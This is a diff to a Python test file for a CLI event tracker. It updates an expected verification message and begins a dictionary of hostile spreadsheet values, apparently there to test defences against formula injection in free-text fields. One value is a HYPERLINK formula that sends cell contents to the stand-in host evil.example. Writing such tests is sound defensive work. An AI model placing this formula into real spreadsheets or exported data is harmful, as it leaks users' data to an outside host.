@@ -20,7 +20,10 @@ from incubator.cli import app
 
 ROOT = Path(__file__).resolve().parents[2]
 DEMO = ROOT / "fixtures" / "demo_events.csv"
-VERIFIED = "OK: 675 events in 300 companies verified\n"
+VERIFIED = (
+    "OK: 675 events in 300 companies verified "
+    "(with 300 company records, the company rows and the spells)\n"
+)
 #: Values a spreadsheet would run as formulas, typed where the tracker keeps free text.
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
